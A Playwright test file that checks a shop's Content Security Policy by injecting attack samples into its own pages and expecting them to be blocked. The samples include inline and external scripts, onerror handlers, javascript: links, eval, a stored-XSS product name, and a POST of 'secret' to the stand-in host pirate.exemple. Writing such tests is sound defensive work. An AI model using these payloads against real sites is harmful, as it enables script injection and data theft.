import type { Page } from "@playwright/test";
import { createProduct } from "@/db/factories/catalogue";
import { createAdmin } from "@/db/factories/people";
import { openScreen } from "../backoffice";
import { openSession } from "../browser-session";
import { expect, test } from "../fixtures";
import { hydrated } from "../hydration";
import { settled } from "../storefront";

// Every browser test shows that pages work under their policy: a violation is a console error, which
// fails the test. These tests show that the policy blocks attacks.

declare global {
  interface Window {
    pwned?: string[];
    violations: string[];
  }
}

/** Records violations of the policy; call it before the page is opened. */
async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      window.violations.push(`${effectiveDirective} ${blockedURI}`);
    });
  });
  return { list: () => page.evaluate(() => window.violations) };
}

/** Requests that the policy allows must not depend on the network. */
const cutOff = (page: Page) => page.route("https://pirate.exemple/**", (route) => route.abort());

/** Attacks the page as injected code might. */
const attack = (page: Page) =>
  page.evaluate(async () => {
    window.pwned = [];
    const made = <Tag extends keyof HTMLElementTagNameMap>(
      tag: Tag,
      properties: Partial<HTMLElementTagNameMap[Tag]>,
    ) => Object.assign(document.createElement(tag), properties);
    const scripts = [
      "https://pirate.exemple/x.js",
      "data:text/javascript,window.pwned.push('data')",
    ];
    const external = scripts.map((src) => made("script", { src }));
    const settledScripts = external.map(
      (script) =>
        new Promise((resolve) => Object.assign(script, { onload: resolve, onerror: resolve })),
    );
    document.head.append(
      made("script", { textContent: "window.pwned.push('inline')" }),
      made("script", { textContent: "self.__next_f.push([1,window.pwned.push('mimic')])" }),
      ...external,
      made("base", { href: "https://pirate.exemple/" }),
      made("style", { textContent: "body { background: url(https://pirate.exemple/x.png) }" }),
    );
    document.body.append(made("iframe", { src: "https://pirate.exemple/" }));
    const box = document.createElement("div");
    box.innerHTML = `<img src="data:," onerror="window.pwned.push('handler')"><a href="javascript:window.pwned.push('link')">x</a>`;
    document.body.append(box);
    box.querySelector("a")?.click();
    // In a timeout, since the policy does not apply to code that the test itself evaluates.
    await new Promise<void>((resolve) => {
      setTimeout(() => {
        try {
          // biome-ignore lint/security/noGlobalEval: the policy refuses it
          window.eval("window.pwned.push('eval')");
        } catch {
          // As expected.
        }
        resolve();
      });
    });
    const sent = await fetch("https://pirate.exemple/", { method: "POST", body: "secret" }).then(
      () => "sent",
      () => "refused",
    );
    await Promise.all(settledScripts);
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
    return { ran: window.pwned, sent, base: document.baseURI.includes("pirate") };
  });

const REFUSED = [
  "script-src-elem inline",
  "script-src-elem https://pirate.exemple/x.js",
  "script-src-elem data",
  "script-src-attr inline",
  "script-src eval",
  "style-src-elem inline",
  "base-uri https://pirate.exemple/",
  "frame-src https://pirate.exemple",
  "connect-src https://pirate.exemple/",
];

test("nothing that is injected runs, loads or sends", async ({ page, database: db, problems }) => {
  // A blocked request is reported as an error, and as a request.
  problems.allow(404, /Content Security Policy|Refused to|violates|pirate\.exemple/);
  // This test's init script runs in the blocked iframe too.
  problems.allow(/Access is denied for this document/);
  await cutOff(page);
  const violations = await watchViolations(page);
  await openSession(page, await createAdmin({ db }));
  for (const [kind, path] of [
    ["a stored page", "/product/34"],
    ["a stored search", "/products?search=theiere"],
    ["the back office", "/backoffice/tags"],
    ["a page that does not exist", "/rien/du/tout"],
  ] as const)
    await test.step(kind, async () => {
      await page.goto(path);
      await settled(page);
      expect(await violations.list()).toEqual([]);
      expect(await attack(page)).toEqual({ ran: [], sent: "refused", base: false });
      // The back office may connect anywhere, to download PDFs: there, only the network refuses the
      // request.
      const refused = path.startsWith("/backoffice") ? REFUSED.slice(0, -1) : REFUSED;
      await expect.poll(violations.list).toEqual(expect.arrayContaining(refused));
    });
});

test("without a policy this finds injected content", async ({ page, problems, shop }) => {
  problems.allow(/./);
  await page.route(`${shop.baseURL}/contact`, async (route) => {
    const response = await route.fetch();
    const { "content-security-policy": _, ...headers } = response.headers();
    await route.fulfill({ response, headers });
  });
  await cutOff(page);
  await page.goto("/contact");
  await attack(page);
  await expect
    .poll(() => page.evaluate(() => window.pwned))
    .toEqual(expect.arrayContaining(["inline", "mimic", "handler", "data", "eval"]));
});

test("a product's name with a closing script tag runs nothing", async ({ page, arrange }) => {
  const name = `</script><script>window.pwned=["name"]</script><img src=x onerror="window.pwned=['img']">`;
  const product = await arrange((db) => createProduct({ db, name, description: name }));
  const violations = await watchViolations(page);
  await page.goto(`/product/${product.id}`);
  await expect(page.getByRole("heading", { level: 1 })).toContainText("</script>");
  expect(await page.evaluate(() => window.pwned)).toBeUndefined();
  expect(await violations.list()).toEqual([]);
});

test("the back office's dialogs have their style, by the nonce", async ({ page, database }) => {
  const violations = await watchViolations(page);
  await openScreen({ page, database, path: "/" });
  // The visit starts in the shop, because the back office is a document of its own.
  await page.getByRole("banner").getByRole("link", { name: "Back office" }).first().click();
  await expect(page).toHaveURL("/backoffice");
  await hydrated(page);
  await page.getByRole("link", { name: "Tags" }).click();
  await page.getByRole("button", { name: /^Ajouter/ }).click();
  await expect(page.getByRole("dialog")).toBeVisible();
  await expect(page.locator("body")).toHaveCSS("overflow-y", "hidden");
  expect(await violations.list()).toEqual([]);
});
